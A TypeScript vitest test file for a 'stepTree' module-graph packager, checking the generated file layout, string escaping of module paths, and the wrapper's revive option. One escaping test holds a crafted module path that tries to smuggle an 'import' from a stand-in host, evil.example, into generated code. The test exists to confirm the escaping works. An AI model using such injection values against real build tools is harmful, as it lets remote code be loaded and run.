import { expect, test } from 'vitest';
import { stepTree } from './step-tree.ts';

const bytes = new TextEncoder().encode('export const main = 1;');

function tree(entry: string, more: object = {}): Map<string, string> {
  const files = stepTree({ entry, modules: new Map([[entry, bytes]]), revives: false, ...more });
  const decoder = new TextDecoder();
  return new Map([...files].map(([path, content]) => [path, decoder.decode(content)]));
}

test('modules keep their repository paths, and only the graph is for the step to read', () => {
  const files = tree('scripts/hn/search.ts', { denoLock: bytes });
  expect([...files.keys()]).toEqual([
    'wrapper.mjs',
    'graph/gate.mjs',
    'graph/entry.mjs',
    'deno.lock',
    'graph/source/scripts/hn/search.ts',
  ]);
  expect(files.get('graph/entry.mjs')).toBe(
    'import \'./gate.mjs\';\nexport * as step from "./source/scripts/hn/search.ts";\n',
  );
});

test('no path of a module can break out of the string that names it', () => {
  const entry = 'scripts/a"; import "https://evil.example/x.ts"; \n`${x}`#?%.ts';
  const source = tree(entry).get('graph/entry.mjs') ?? '';
  expect(source.split('\n')).toHaveLength(3);
  expect(source.split('"')).toHaveLength(3);
  const path = /"\.\/source\/(.*)"/.exec(source)?.[1] ?? '';
  expect(path.split('/').map(decodeURIComponent).join('/')).toBe(entry);
});

test('the wrapper revives only for a script that needs it, and is whole in both forms', () => {
  const plain = tree('a.ts').get('wrapper.mjs') ?? '';
  const reviving = tree('a.ts', { revives: true }).get('wrapper.mjs') ?? '';
  expect(plain).toContain('const reviveInput = null;');
  expect(reviving).toContain('const reviveInput = (function revive(');
  for (const source of [plain, reviving]) {
    expect(source).not.toContain('REVIVE');
    expect(source.trimEnd().endsWith('runStep();')).toBe(true);
  }
});
